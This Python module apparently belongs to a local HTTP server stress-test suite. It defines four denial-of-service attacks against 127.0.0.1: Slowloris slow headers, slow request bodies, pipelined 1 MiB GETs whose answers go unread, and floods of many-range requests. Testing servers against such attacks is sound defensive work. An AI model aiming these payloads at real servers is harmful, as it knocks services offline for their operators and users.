"""Plain HTTP: heads and bodies that take for ever, requests whose answers nobody reads, floods of ranges."""

from attack import Service, attack
from crowd import Plan, crowd
from target import Tally, Target
from wire import blast

#: The name of the file that servers which answer plain HTTP are given, and its size in bytes.
FILE = "file.bin"
FILE_SIZE = 2**20

#: Seconds between two pieces of what comes slowly.
PACE = 0.2


def request(line: bytes, fields: bytes) -> bytes:
    """A request's head."""
    return b"%b HTTP/1.1\r\nHost: 127.0.0.1\r\n%b" % (line, fields)


@attack("request heads, a field each 0.2 s", 500)
def slow_heads(target: Target) -> Tally:
    """A head that does not end, as Slowloris sends it."""
    return crowd(target, Plan(first=request(b"GET /ws", b""), again=b"X-a: b\r\n", pace=PACE))


@attack("request bodies, a byte each 0.2 s", 500, service=Service.HTTP)
def slow_bodies(target: Target) -> Tally:
    """A body that does not end."""
    first = request(b"POST /bodies", b"Content-Length: 1000000\r\n\r\n")
    return crowd(target, Plan(first=first, again=b"a", pace=PACE))


@attack("pipelined GETs of 1 MiB, answers unread", 300, service=Service.HTTP)
def pipelined(target: Target) -> Tally:
    """One request behind the other, and none of the answers is read."""
    one = request(b"GET /files/" + FILE.encode(), b"\r\n")
    return crowd(target, Plan(again=blast(one), reads=False))


@attack("pipelined GETs of a thousand ranges", 100, service=Service.HTTP)
def ranges(target: Target) -> Tally:
    """Each asks for a thousand pieces of one file; the answers are read."""
    wanted = b",".join(b"%d-%d" % (start, start) for start in range(0, 2000, 2))
    one = request(b"GET /files/" + FILE.encode(), b"Range: bytes=%b\r\n\r\n" % wanted)
    return crowd(target, Plan(again=blast(one)))


ATTACKS = (slow_heads, slow_bodies, pipelined, ranges)
